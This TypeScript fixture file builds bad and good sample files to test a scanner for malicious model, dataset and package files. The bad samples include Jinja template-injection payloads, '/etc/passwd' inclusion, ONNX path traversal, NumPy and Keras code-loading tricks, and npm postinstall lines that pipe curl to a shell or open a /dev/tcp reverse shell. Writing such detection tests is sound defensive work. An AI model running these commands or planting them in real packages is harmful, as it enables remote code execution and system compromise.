// Models, tables and documents, bad and good. It has more than 400 lines because it is a list: each line one sample,
// and the bad and good ones of a format are to be read side by side.
import {
  arrow,
  type Field,
  gguf,
  ggufString,
  hdf5,
  join,
  message,
  npy,
  parquet,
  type Sample,
  safetensors,
  sample,
  tflite,
  u32,
  u64,
} from './bytes.ts';

const f32 = (start: number, end: number, shape = [(end - start) / 4]) => ({
  dtype: 'F32',
  shape,
  data_offsets: [start, end],
});
const json = (value: unknown) => JSON.stringify(value);

const badTemplates: Readonly<Record<string, string>> = {
  'an attribute of Python': "{{ ''.__class__.__mro__[1].__subclasses__() }}",
  'an attribute by subscript': "{{ ()['__class__']['__base__'] }}",
  'the filter attr': "{{ messages|attr('pop') }}",
  lipsum: "{{ lipsum.__globals__['os'].popen('id').read() }}",
  cycler: '{{ cycler.__init__.__globals__.os }}',
  self: '{{ self._TemplateReference__context }}',
  'an escaped underscore': "{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}",
  'underscores put together': "{% set a = '__' ~ 'class' ~ '__' %}{{ x[a] }}",
  'a format': "{{ x['%c%cclass%c%c'|format(95,95,95,95)] }}",
  'an import': "{% import 'os' as os %}",
  'an inclusion': "{% include '/etc/passwd' %}",
  popen: "{{ x.popen('id') }}",
};
const goodTemplates: Readonly<Record<string, string>> = {
  chatml:
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}",
  llama:
    "{% if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}{% endif %}{% for m in loop_messages %}{{ bos_token + m.content|trim }}{% endfor %}",
  namespace:
    "{%- set ns = namespace(found=false) -%}{%- if not ns.found %}{{ raise_exception('none') }}{%- endif %}",
  tools: '{%- for tool in tools %}{{- tool | tojson(indent=4) }}{%- endfor %}{{ strftime_now("%d %b %Y") }}',
  'text with underscores': 'Write `__init__` methods. {{ messages[0].content }}',
  none: 'Hello',
};

function badModels(): Sample[] {
  const st = (title: string, bytes: Uint8Array) =>
    sample(`safetensors: ${title}`, 'model.safetensors', bytes);
  const gg = (title: string, bytes: Uint8Array) => sample(`GGUF: ${title}`, 'model.gguf', bytes);
  const np = (title: string, bytes: Uint8Array) => sample(`NumPy: ${title}`, 'a.npy', bytes);
  return [
    st('overlap', safetensors({ a: f32(0, 16), b: f32(8, 24) }, 24)),
    st('gap', safetensors({ a: f32(0, 16), b: f32(20, 36) }, 36)),
    st('gap in front', safetensors({ a: f32(4, 20) }, 20)),
    st('data behind', safetensors({ a: f32(0, 16) }, 20)),
    st('too few bytes', safetensors({ a: f32(0, 16) }, 8)),
    st('wrong shape', safetensors({ a: f32(0, 16, [3]) }, 16)),
    st('negative offsets', safetensors({ a: { dtype: 'F32', shape: [4], data_offsets: [-16, 0] } }, 0)),
    st('offsets the wrong way round', safetensors({ a: f32(16, 0, [4]) }, 16)),
    st('unknown type', safetensors({ a: { dtype: 'X9', shape: [4], data_offsets: [0, 16] } }, 16)),
    st('no shape', safetensors({ a: { dtype: 'F32', data_offsets: [0, 16] } }, 16)),
    st(
      'key twice',
      safetensors(
        null,
        16,
        '{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}',
      ),
    ),
    st(
      'key twice, escaped',
      safetensors(null, 16, '{"a":{"dtype":"F32","dt\\u0079pe":"F32","shape":[4],"data_offsets":[0,16]}}'),
    ),
    st('no JSON', safetensors(null, 16, '{"a":')),
    st('metadata that is no text', safetensors({ __metadata__: { a: { b: 1 } }, a: f32(0, 16) }, 16)),
    st('header longer than the file', join(u64(1_000_000), '{}')),
    st('header of any length', join(u64(2n ** 63n), '{}')),
    st('another format', gguf({})),
    gg('too many tensors', gguf({ tensorCount: 2 ** 40 })),
    gg('tensors that are not there', gguf({ tensorCount: 3 })),
    gg('unknown version', gguf({ version: 99 })),
    gg('other byte order', gguf({ version: 0x03000000 })),
    gg('tensor beyond the end', gguf({ tensors: [['a', [64], 0, 0]], dataBytes: 16 })),
    gg('tensor of no known type', gguf({ tensors: [['a', [64], 999, 0]], dataBytes: 256 })),
    gg(
      'overlap',
      gguf({
        tensors: [
          ['a', [64], 0, 0],
          ['b', [64], 0, 32],
        ],
        dataBytes: 512,
      }),
    ),
    gg('not aligned', gguf({ tensors: [['a', [8], 0, 3]], dataBytes: 512 })),
    gg('many dimensions', gguf({ tensors: [['a', Array(20).fill(1), 0, 0]], dataBytes: 512 })),
    gg('shape that overflows', gguf({ tensors: [['a', [2 ** 40, 2 ** 40], 0, 0]], dataBytes: 512 })),
    gg('text longer than the file', gguf({ pairs: [['a', 8, u64(2n ** 40n)]] })),
    gg('array longer than the file', gguf({ pairs: [['a', 9, join(u32(8), u64(2n ** 40n))]] })),
    gg('value of no known type', gguf({ pairs: [['a', 77, Buffer.alloc(8)]] })),
    gg('key twice', gguf({ pairs: [ggufString('a', 'x'), ggufString('a', 'y')] })),
    gg('alignment of nothing', gguf({ pairs: [['general.alignment', 4, u32(0)]] })),
    gg('cut short', gguf({ pairs: [ggufString('general.name', 'x'.repeat(100))] }).subarray(0, 60)),
    np(
      'more than there is',
      npy("{'descr': '<f8', 'fortran_order': False, 'shape': (100,), }", Buffer.alloc(16)),
    ),
    np('data behind', npy("{'descr': '<f8', 'fortran_order': False, 'shape': (2,), }", Buffer.alloc(40))),
    np(
      'a header that is an expression',
      npy("{'descr': '<f8', 'fortran_order': False, 'shape': (__import__('os'),), }", Buffer.alloc(8)),
    ),
    np(
      'a key twice',
      npy("{'descr': '<f8', 'fortran_order': False, 'shape': (2,), 'shape': (1,), }", Buffer.alloc(16)),
    ),
    np('unknown type', npy("{'descr': 'zz', 'fortran_order': False, 'shape': (2,), }", Buffer.alloc(16))),
    np(
      'unknown version',
      npy("{'descr': '<f8', 'fortran_order': False, 'shape': (2,), }", Buffer.alloc(16), 9),
    ),
    ...Object.entries(badTemplates).flatMap(([title, template]) => [
      gg(`template with ${title}`, gguf({ pairs: [ggufString('tokenizer.chat_template', template)] })),
      sample(`template with ${title}`, 'tokenizer_config.json', json({ chat_template: template })),
    ]),
    sample(
      'template of a list',
      'tokenizer_config.json',
      json({ chat_template: [{ name: 'default', template: badTemplates.lipsum }] }),
    ),
    sample('template in a file', 'chat_template.jinja', badTemplates.cycler ?? ''),
    sample(
      'code of another package',
      'config.json',
      json({ auto_map: { AutoModel: 'someone/else--model.Model' } }),
    ),
    sample(
      'configuration with another encoding',
      'config.json',
      Buffer.from('\uFEFF{"auto_map":{}}', 'utf16le'),
    ),
    sample('configuration that is no JSON', 'config.json', '{"auto_map": '),
  ];
}

const onnxNode = (operator: string, domain = '') => message([4, operator], [7, domain]);
const onnxTensor = (location: string) =>
  message([2, 1], [8, 'weight'], [13, message([1, 'location'], [2, location])], [14, 1]);
const onnx = (...parts: readonly Field[]) => message([1, 8], [2, 'pytorch'], [7, message(...parts)]);
const graph = (...operators: readonly string[]) =>
  message(...operators.map((op) => [1, message([1, 'n'], [2, op])] as const));
const savedModel = (inner: Uint8Array) => message([1, 1], [2, message([2, inner])]);
const inFunction = (operator: string) =>
  message([2, message([1, message([3, message([1, 'n'], [2, operator])])])]);

const kerasLayer = (layer: object) =>
  json({ class_name: 'Functional', module: 'keras', config: { layers: [layer] } });
const dense = {
  class_name: 'Dense',
  module: 'keras.layers',
  registered_name: null,
  config: { name: 'dense', units: 4 },
};
const lambda = {
  class_name: 'Lambda',
  module: 'keras.layers',
  config: { function: { class_name: '__lambda__', config: { code: '4wEAAA==' } } },
};

function badGraphs(): Sample[] {
  return [
    ...['../secret', '/etc/passwd', 'C:\\x', 'a/../../b', '\\\\host\\x', 'http://host/x', '..'].map((place) =>
      sample(`ONNX: data at ${place}`, 'model.onnx', onnx([5, onnxTensor(place)])),
    ),
    sample(
      'ONNX: data of a node’s attribute elsewhere',
      'model.onnx',
      onnx([1, message([4, 'Constant'], [5, message([1, 'value'], [5, onnxTensor('../x')])])]),
    ),
    sample(
      'ONNX: data of an inner graph elsewhere',
      'model.onnx',
      onnx([1, message([4, 'If'], [5, message([6, message([5, onnxTensor('../x')])])])]),
    ),
    sample('ONNX: Python', 'model.onnx', onnx([1, onnxNode('PyOp', 'ai.onnx.contrib')])),
    sample('ONNX: Python under another name', 'model.bin', onnx([1, onnxNode('PyOp')])),
    sample('ONNX: cut short', 'model.onnx', onnx([1, onnxNode('Add')]).subarray(0, 14)),
    sample(
      'ONNX: lengths that do not fit',
      'model.onnx',
      join(Buffer.of(0x3a, 0xff, 0xff, 0xff, 0x7f), 'xx'),
    ),
    sample('ONNX: groups', 'model.onnx', Buffer.of(0x0b, 0x0c)),
    ...[
      'ReadFile',
      'WriteFile',
      'PyFunc',
      'EagerPyFunc',
      'PyFuncStateless',
      'MatchingFiles',
      'ShellExecute',
    ].flatMap((operator) => [
      sample(`TensorFlow: ${operator}`, 'saved_model.pb', savedModel(graph('Placeholder', operator))),
      sample(`TensorFlow: ${operator} in a function`, 'saved_model.pb', savedModel(inFunction(operator))),
    ]),
    sample('TensorFlow: a frozen graph', 'frozen.pb', graph('Const', 'WriteFile')),
    sample('TensorFlow: under another name', 'model.bin', savedModel(graph('PyFunc'))),
    sample('TensorFlow: as text', 'graph.pbtxt', 'node { name: "x" op: "PyFunc" }'),
    sample('TensorFlow: as text, escaped', 'graph.pbtxt', 'node { name: "x" op: "Py\\106unc" }'),
    sample('TensorFlow: cut short', 'saved_model.pb', savedModel(graph('Add')).subarray(0, 9)),
    sample('Keras: a Lambda layer', 'model.keras!/config.json', kerasLayer(lambda)),
    sample(
      'Keras: a Lambda layer, escaped',
      'model.keras!/config.json',
      kerasLayer(lambda).replace('Lambda', '\\u004cambda'),
    ),
    sample(
      'Keras: a module of Python',
      'model.keras!/config.json',
      kerasLayer({ class_name: 'function', module: 'os', config: 'system' }),
    ),
    sample(
      'Keras: a function of Keras that fetches',
      'model.keras!/config.json',
      kerasLayer({ class_name: 'function', module: 'keras.utils', config: 'get_file' }),
    ),
    sample(
      'Keras: a switch of Keras',
      'model.keras!/config.json',
      kerasLayer({ class_name: 'function', module: 'keras.config', config: 'enable_unsafe_deserialization' }),
    ),
    sample(
      'Keras: a vocabulary from a file',
      'model.keras!/config.json',
      kerasLayer({
        class_name: 'StringLookup',
        module: 'keras.layers',
        config: { vocabulary: '/etc/passwd' },
      }),
    ),
    sample('Keras: HDF5 with a Lambda layer', 'model.h5', hdf5(kerasLayer(lambda))),
    sample(
      'Keras: HDF5 with a Lambda layer, escaped',
      'model.h5',
      hdf5(kerasLayer({ class_name: 'X' }).replace('X', '\\u004cambda')),
    ),
    sample(
      'Keras: HDF5 with a module of Python',
      'model.h5',
      hdf5(kerasLayer({ class_name: 'X', module: 'builtin_evil' })),
    ),
    sample('Keras: HDF5 with spaces', 'model.h5', hdf5('{ "class_name" :  "Lambda" }')),
    sample(
      'Keras: metadata of a SavedModel',
      'keras_metadata.pb',
      message([1, message([5, kerasLayer(lambda)])]),
    ),
    sample(
      'TensorFlow Lite: an offset beyond the end',
      'a.tflite',
      join(u32(0x7fffffff), 'TFL3', Buffer.alloc(100)),
    ),
    sample(
      'TensorFlow Lite: too many operators',
      'a.tflite',
      join(tflite([]).subarray(0, 28), u32(0xffffff)),
    ),
    sample('Parquet: no end', 'a.parquet', parquet('footer', { end: 'XXXX' })),
    sample('Parquet: a footer longer than the file', 'a.parquet', parquet('footer', { lengthBytes: 5_000 })),
    sample('Parquet: a negative footer', 'a.parquet', parquet('footer', { lengthBytes: 0xffff_ffff })),
    sample('Parquet: encrypted', 'a.parquet', parquet('footer', { end: 'PARE' })),
    sample('Parquet: cut short', 'a.parquet', 'PAR1PAR'),
    sample('Arrow: no end', 'a.arrow', arrow('footer', { end: 'XXXXXX' })),
    sample('Arrow: a footer longer than the file', 'a.arrow', arrow('footer', { lengthBytes: 5_000 })),
    sample('Arrow: a pickle as a type', 'a.arrow', arrow('xx ARROW:extension:name arrow.py_extension_type')),
    ...[0, 1, 2].map((shift) =>
      sample(
        `Parquet: a pickle as a type, in base64 ${shift}`,
        'a.parquet',
        parquet(Buffer.from(`${'x'.repeat(shift)}xxx arrow.py_extension_type yyyyyy`).toString('base64')),
      ),
    ),
    sample(
      'Arrow: a stream with a pickle as a type',
      'a.bin',
      join(u32(0xffff_ffff), Buffer.alloc(100, 0xee), 'arrow.py_extension_type'),
    ),
  ];
}

const notebook = (source: string, outputs: unknown[] = []) =>
  json({ nbformat: 4, cells: [{ cell_type: 'code', source: [source], outputs }] });
const elf = join(Buffer.of(0x7f), 'ELF', Buffer.alloc(600));
const windows = join('MZ', Buffer.alloc(58), u32(64), 'PE\0\0', Buffer.alloc(500));

function badPrograms(): Sample[] {
  return [
    ...[
      'curl https://x/i.sh | sh',
      'curl -s https://x|sudo bash',
      'wget -qO- x | python3',
      'bash -c "$(curl -fsSL https://x)"',
      'bash <(curl -s https://x)',
      'node -e "require(\'child_process\').exec(1)"',
      'node -e "eval(Buffer.from(1))"',
      'python3 -c "import urllib.request"',
      'powershell -nop -enc AAAA',
      'echo aGk= | base64 -d | sh',
      'curl -o x https://x && ./x',
      'bash -i >& /dev/tcp/1.2.3.4/9 0>&1',
    ].map((command) =>
      sample(`npm: ${command}`, 'package.json', json({ scripts: { postinstall: command } }), 'code'),
    ),
    sample('npm: before', 'package.json', json({ scripts: { preinstall: 'curl x | sh' } }), 'code'),
    sample(
      'setup.py that fetches and runs',
      'setup.py',
      'import os, urllib.request\nopen("x","wb").write(urllib.request.urlopen("http://x").read())\nos.system("./x")\n',
      'code',
    ),
    sample(
      'setup.py that hides what it runs',
      'setup.py',
      'exec(base64.b64decode("aW1wb3J0IG9z"))\n',
      'code',
    ),
    sample('.pth that imports', 'x.pth', 'import os; os.system("id")\n', 'code'),
    sample('.pth that imports behind a path', 'x.pth', '/usr/lib/x\nimport\tos\n', 'code'),
    sample('.pth that imports behind a mark', 'x.pth', '\uFEFFimport os\n', 'code'),
    sample('.pth that imports behind another line end', 'x.pth', 'a\fimport os\n', 'code'),
    sample('a program of Linux in a model', 'weights.bin', elf),
    sample('a program of Linux in a dataset', 'data.csv', elf, 'dataset'),
    sample('a program of Windows in a model', 'model.dll', windows),
    sample('a program of macOS in a model', 'x', join(Buffer.of(0xcf, 0xfa, 0xed, 0xfe), Buffer.alloc(600))),
    ...['safetensors', 'gguf', 'npy', 'npz', 'tflite', 'parquet', 'h5', 'keras'].map((ending) =>
      sample(`a text named .${ending}`, `model.${ending}`, 'version https://git-lfs.github.com/spec/v1\n'),
    ),
  ];
}

export function badFormats(): Sample[] {
  return [...badModels(), ...badGraphs(), ...badPrograms()];
}

function goodModels(): Sample[] {
  const st = (title: string, bytes: Uint8Array) =>
    sample(`safetensors: ${title}`, 'model.safetensors', bytes);
  const gg = (title: string, bytes: Uint8Array) => sample(`GGUF: ${title}`, 'model.gguf', bytes);
  const np = (title: string, descr: string, shape: string, sizeBytes: number) =>
    sample(
      `NumPy: ${title}`,
      'a.npy',
      npy(`{'descr': ${descr}, 'fortran_order': False, 'shape': ${shape}, }`, Buffer.alloc(sizeBytes)),
    );
  return [
    st('one tensor', safetensors({ a: f32(0, 16) }, 16)),
    st('tensors in any order', safetensors({ b: f32(16, 24), a: f32(0, 16) }, 24)),
    st('metadata', safetensors({ __metadata__: { format: 'pt' }, a: f32(0, 16) }, 16)),
    st('none', safetensors({}, 0)),
    st('an empty tensor', safetensors({ a: f32(0, 0, [0, 4]), b: f32(0, 4) }, 4)),
    st('a scalar', safetensors({ a: f32(0, 4, []) }, 4)),
    st('a padded header', safetensors(null, 16, `${json({ a: f32(0, 16) })}      `)),
    ...['F64', 'I64', 'BF16', 'F16', 'I8', 'U8', 'BOOL', 'F8_E4M3', 'I32', 'I16'].map((dtype) => {
      const size = { '64': 8, '32': 4, '16': 2 }[/(64|32|16)$/.exec(dtype)?.[1] ?? ''] ?? 1;
      return st(dtype, safetensors({ a: { dtype, shape: [3], data_offsets: [0, 3 * size] } }, 3 * size));
    }),
    gg('empty', gguf({})),
    gg('version 2', gguf({ version: 2 })),
    gg(
      'values of every type',
      gguf({
        pairs: [
          ...[0, 1, 7].map((type) => [`a${type}`, type, Buffer.of(1)] as const),
          ...[2, 3].map((type) => [`b${type}`, type, Buffer.alloc(2)] as const),
          ...[4, 5, 6].map((type) => [`c${type}`, type, Buffer.alloc(4)] as const),
          ...[10, 11, 12].map((type) => [`d${type}`, type, Buffer.alloc(8)] as const),
          ggufString('e', 'text'),
        ],
      }),
    ),
    gg(
      'arrays',
      gguf({
        pairs: [
          ['a', 9, join(u32(4), u64(3), Buffer.alloc(12))],
          ['tokenizer.ggml.tokens', 9, join(u32(8), u64(2), u64(1), 'a', u64(2), 'bc')],
        ],
      }),
    ),
    gg(
      'tensors',
      gguf({
        tensors: [
          ['a', [8], 0, 0],
          ['b', [4, 4], 1, 32],
        ],
        dataBytes: 64,
      }),
    ),
    gg(
      'quantised tensors',
      gguf({
        tensors: [
          ['a', [256], 12, 0],
          ['b', [32], 8, 160],
        ],
        dataBytes: 224,
      }),
    ),
    ...Object.entries(goodTemplates).flatMap(([title, template]) => [
      gg(`template ${title}`, gguf({ pairs: [ggufString('tokenizer.chat_template', template)] })),
      sample(`template ${title}`, 'tokenizer_config.json', json({ chat_template: template })),
      sample(`template ${title} in a file`, 'chat_template.jinja', template),
    ]),
    np('numbers', "'<f8'", '(4,)', 32),
    np('a matrix', "'<f4'", '(2, 3)', 24),
    np('a scalar', "'<i8'", '()', 8),
    np('truth', "'|b1'", '(5,)', 5),
    np('texts', "'<U10'", '(2,)', 80),
    np('bytes', "'|S7'", '(3,)', 21),
    np('times', "'<M8[ns]'", '(2,)', 16),
    np('records', "[('f0', '<f4'), ('i1', '<i8')]", '(2,)', 24),
    np('nothing', "'<f8'", '(0,)', 0),
    sample('configuration', 'config.json', json({ model_type: 'bert', hidden_size: 4 })),
    sample('configuration with what only Python reads', 'config.json', '{"eps": NaN, "text": "NaN"}'),
    sample('configuration with a mark', 'config.json', '\uFEFF{"a": 1}'),
    sample(
      'configuration that names code',
      'config.json',
      json({ auto_map: { AutoModel: 'modeling.Model' } }),
    ),
    sample(
      'pipeline',
      'model_index.json',
      json({ _class_name: 'StableDiffusionPipeline', unet: ['diffusers', 'UNet2DConditionModel'] }),
    ),
  ];
}

function goodGraphs(): Sample[] {
  return [
    sample('ONNX', 'model.onnx', onnx([1, onnxNode('Add')], [1, onnxNode('Relu')])),
    sample('ONNX: data beside it', 'model.onnx', onnx([5, onnxTensor('model.onnx.data')])),
    sample('ONNX: data in a folder', 'model.onnx', onnx([5, onnxTensor('weights/a.bin')])),
    sample(
      'ONNX: operators of machine learning',
      'model.onnx',
      onnx([1, onnxNode('TreeEnsembleClassifier', 'ai.onnx.ml')]),
    ),
    sample('ONNX: operators of another domain', 'model.onnx', onnx([1, onnxNode('Thing', 'com.example')])),
    sample('ONNX: weights', 'model.onnx', onnx([5, message([1, 4], [2, 1], [9, Buffer.alloc(100_000)])])),
    sample('ONNX: under another name', 'model.bin', onnx([1, onnxNode('Add')])),
    sample(
      'TensorFlow',
      'saved_model.pb',
      savedModel(graph('Placeholder', 'MatMul', 'SaveV2', 'RestoreV2', 'MergeV2Checkpoints')),
    ),
    sample('TensorFlow: functions', 'saved_model.pb', savedModel(inFunction('Relu'))),
    sample('TensorFlow: a frozen graph', 'frozen.pb', graph('Const', 'Conv2D')),
    sample('TensorFlow: as text', 'graph.pbtxt', 'node { name: "x" op: "Add" }'),
    sample('Keras', 'model.keras!/config.json', kerasLayer(dense)),
    sample(
      'Keras: a registered class',
      'model.keras!/config.json',
      kerasLayer({ ...dense, class_name: 'Mine', module: null, registered_name: 'my>Mine' }),
    ),
    sample(
      'Keras: an activation',
      'model.keras!/config.json',
      kerasLayer({ class_name: 'function', module: 'builtins', config: 'relu' }),
    ),
    sample(
      'Keras: a vocabulary',
      'model.keras!/config.json',
      kerasLayer({ class_name: 'StringLookup', module: 'keras.layers', config: { vocabulary: ['a', 'b'] } }),
    ),
    sample('Keras: HDF5', 'model.h5', hdf5(kerasLayer(dense))),
    sample(
      'Keras: HDF5 with a name in another script',
      'model.h5',
      hdf5(kerasLayer({ ...dense, config: { name: 'schicht' } }).replace('schicht', 'gr\\u00f6\\u00dfe')),
    ),
    sample('Keras: HDF5 of weights', 'weights.h5', hdf5()),
    sample('TensorFlow Lite', 'a.tflite', tflite([null, null])),
    sample('TensorFlow Lite: an operator of its own', 'a.tflite', tflite([null, 'MyOperator'])),
    sample('Parquet', 'a.parquet', parquet('a footer of thrift')),
    sample(
      'Parquet: with a schema of Arrow',
      'a.parquet',
      parquet(Buffer.from('ARROW:schema something').toString('base64')),
    ),
    sample('Arrow', 'a.arrow', arrow('a footer')),
    sample('Arrow: another extension', 'a.arrow', arrow('ARROW:extension:name arrow.json')),
  ];
}

function goodPrograms(): Sample[] {
  const scripts = (title: string, value: object) =>
    sample(`npm: ${title}`, 'package.json', json({ name: 'x', scripts: value }), 'code');
  return [
    scripts('none', {}),
    scripts('tests', { test: 'node --test', build: 'tsc && curl -o x y' }),
    scripts('a build at installation', { install: 'node-gyp rebuild' }),
    scripts('a file of its own', { postinstall: 'node scripts/postinstall.js' }),
    sample('setup.py', 'setup.py', 'from setuptools import setup\nsetup(name="x")\n', 'code'),
    sample(
      'setup.py with a command',
      'setup.py',
      'from setuptools import setup\nsetup(name="x", cmdclass={"build": B})\n',
      'code',
    ),
    sample('pyproject.toml', 'pyproject.toml', '[build-system]\nrequires = ["hatchling"]\n', 'code'),
    sample(
      'pyproject.toml with a backend of its own',
      'pyproject.toml',
      '[build-system]\nbackend-path = ["."]\n',
      'code',
    ),
    sample('.pth with paths', 'x.pth', '# import nothing\n../lib\n/opt/important\n', 'code'),
    sample('a program in a package of code', 'bin/x', elf, 'code'),
    sample('a library in a package of code', 'x.dll', windows, 'code'),
    sample('notebook', 'a.ipynb', notebook('print(1)')),
    sample('notebook with commands', 'a.ipynb', notebook('!pip install x')),
    sample(
      'notebook with a picture',
      'a.ipynb',
      notebook('x', [{ output_type: 'display_data', data: { 'image/png': 'AAAA' } }]),
    ),
    sample(
      'notebook with a script',
      'a.ipynb',
      notebook('x', [{ data: { 'text/html': ['<script>x</script>'] } }]),
    ),
    sample('notebook that fetches and runs', 'a.ipynb', notebook('!curl x | sh')),
    sample(
      'a template of a program',
      'templates/page.jinja',
      "{% include 'head.jinja' %}{{ request.path }}",
      'code',
    ),
    sample('broken JSON in a package of code', 'test/config.json', '{ broken', 'code'),
    sample('README', 'README.md', '# Title\n\nRun `curl x | sh`, or `import os`.\n'),
    sample('nothing', 'empty', ''),
    ...['de', 'fr', 'ja', 'ar'].map((language) =>
      sample(
        `a text in ${language}`,
        `data/${language}.txt`,
        { de: 'Größe\n', fr: 'été\n', ja: '日本語\n', ar: 'مرحبا\n' }[language] ?? '',
      ),
    ),
    ...[...Array(24).keys()].map((seed) =>
      sample(
        `numbers ${seed}`,
        `data/${seed}.bin`,
        Buffer.from(Array.from({ length: 3_000 }, (_, i) => ((i + seed) * (seed * 2 + 7919)) % 256)),
      ),
    ),
    ...[...Array(12).keys()].map((seed) =>
      sample(
        `table ${seed}`,
        `data/${seed}.csv`,
        `id,name\n${Array.from({ length: 50 }, (_, i) => `${i},${String.fromCharCode(99 + (i % 20))}x${seed}`).join('\n')}\n`,
      ),
    ),
  ];
}

export function goodFormats(): Sample[] {
  return [...goodModels(), ...goodGraphs(), ...goodPrograms()];
}
